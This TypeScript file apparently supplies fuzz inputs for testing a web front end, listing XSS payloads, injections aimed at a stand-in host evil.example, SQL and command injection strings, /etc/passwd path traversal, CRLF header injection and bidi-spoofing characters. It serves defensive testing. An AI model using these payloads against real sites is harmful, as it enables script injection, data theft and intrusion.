/** Texts that have broken pages before, by what they attack. Here each is a customer's or a server's text. */
export const nasty: readonly string[] = [
  // Markup and scripts.
  '<script>window.__hit = 1</script>',
  '<img src=x onerror="window.__hit = 1">',
  '"><svg onload=window.__hit=1>',
  '<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
  '<details open ontoggle=window.__hit=1>',
  '<body onpageshow=window.__hit=1>',
  '<a href="javascript:window.__hit=1">x</a>',
  '<style>*{display:none!important}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<form action="//evil.example"><input name=code></form>',
  '<otp-verify account="1" channel="kb-trade"></otp-verify>',
  '<slot name="header"></slot>',
  '</section></template><plaintext>',
  '<!--', '-->', '<![CDATA[x]]>', '<?php system("id") ?>',
  '&lt;b&gt;&amp;&#x3C;script&#x3E;',
  '<IMG SRC="jav&#x09;ascript:window.__hit=1">',
  '\u0000<b>\u0000', '<\u0000script>', '＜script＞',
  // Templates of other languages, and of lit.
  '${window.__hit=1}', '{{constructor.constructor("window.__hit=1")()}}', '<%= 7*7 %>', '#{7*7}', '%{7*7}', '[[7*7]]',
  '<!--lit-part 1234=--><!--/lit-part-->', '$lit$123456789$', '<?lit$123456789$?>',
  // Names of what objects inherit.
  '__proto__', 'constructor', 'hasOwnProperty', 'toString', 'undefined', 'null', 'NaN', 'true', '-0', '1e309',
  // Queries, commands and formats.
  "'; DROP TABLE accounts; --", '%s%n%x%d', '`id`', '$(id)', '../../../../etc/passwd', '\\\\evil.example\\share', 'file:///etc/passwd',
  // Direction and invisible characters.
  '\u202Egnp.exe\u202C', '\u2066\u2067\u2068x', '\u200Bzero\u200Bwidth\uFEFF', '\u061C\u200E\u200F', 'ABC\u2028DEF\u2029GHI', '\r\nSet-Cookie: a=b',
  // Other scripts, stacked marks, emoji, lone surrogates, length.
  'אבגד abc 123', 'مرحبا بالعالم', 'ก็็็็็็็็็็็็็', 'Z̷̛̗͔̠͎͓̖̭̙͍̹̬̩̲̈́̽̐a̶̡̛̰̪̯̪̺̽͐̈́l̴g̵o̷', '👨‍👩‍👧‍👦🏳️‍⚧️🇻🇳', '田中さんにあげて下さい', 'Ⱥ Ⱦ ﬁ ㍘ ﷽', '\uD800', '\uDFFF x',
  'w'.repeat(300), 'Nguyễn '.repeat(40), ' \t \u00A0 \u3000 ',
];
